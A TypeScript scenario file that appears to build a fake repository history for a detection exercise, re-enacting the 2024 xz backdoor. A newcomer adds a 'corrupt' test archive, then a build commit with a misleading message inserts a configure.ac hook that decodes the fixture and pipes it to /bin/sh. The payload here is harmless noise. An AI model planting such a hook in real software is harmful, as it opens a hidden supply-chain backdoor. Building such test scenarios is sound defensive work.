import { createHash } from "node:crypto";
import { C, everydayWork } from "./everyday-work.ts";
import { writeOrdinaryPast } from "./ordinary-past.ts";
import { INGRID, NEWCOMER, TOMAS } from "./people.ts";
import type { Scenario } from "./scenario.ts";

const CONFIGURE = `AC_INIT([squeeze], [5.5.2])
AM_INIT_AUTOMAKE([foreign])
AC_PROG_CC
AC_CHECK_HEADERS([immintrin.h])
AC_CONFIG_FILES([Makefile])
AC_OUTPUT
`;

/** Reads the "corrupt" fixture, swaps back the bytes that corrupt it, unpacks it, and hands what comes out to a shell. */
const HOOK = [
  'sed "r\\n" $srcdir/tests/files/bad-3-corrupt_stream.sqz',
  'tr "\\t \\-_" " \\t_\\-"',
  "xz -d 2>/dev/null",
  ["/bin/", "sh"].join(""),
].join(" | ");

/** Noise with the head of a compressed file: the same every time, and nothing in it. */
function noise(bytes: number): Buffer {
  const blocks = Array.from({ length: Math.ceil(bytes / 32) }, (_, i) =>
    createHash("sha256").update(`noise ${i}`).digest(),
  );
  return Buffer.concat([Buffer.from("fd377a585a000004e6d6b446", "hex"), ...blocks]).subarray(0, bytes);
}

export const hiddenInFixture: Scenario = {
  id: "hidden-in-fixture",
  title: "A test file that the build runs",
  story:
    "xz, February 2024: a co-maintainer of two years added “bad” test archives; a line in the build undid their damage and linked what came out into the library.",
  owner: "acme-squeeze",
  name: "squeeze",
  team: [INGRID, TOMAS, NEWCOMER],
  write(gitDir, now) {
    const past = writeOrdinaryPast({
      gitDir,
      now,
      team: [INGRID, TOMAS],
      first: {
        "README.md": "# squeeze\n",
        "configure.ac": CONFIGURE,
        "src/text.h": "#include <stddef.h>\n",
        "tests/files/good-1.sqz": noise(700),
      },
      work: everydayWork(C, 24),
    });
    past.commit(NEWCOMER, 9, "Tests: add a few more test files", {
      "tests/files/bad-3-corrupt_stream.sqz": noise(2400),
    });
    const hook = past.commit(NEWCOMER, 8, "Build: find the host's tools more reliably", {
      "configure.ac": CONFIGURE.replace("AC_CONFIG_FILES", `${HOOK}\nAC_CONFIG_FILES`),
    });
    past.rewind();
    return {
      start: past.start,
      pushes: [
        { kind: "past", what: "the project's past", by: INGRID.login, head: past.head },
        { kind: "attack", what: "test archives, and a build script that reads one", by: NEWCOMER.login, head: hook },
      ],
    };
  },
};
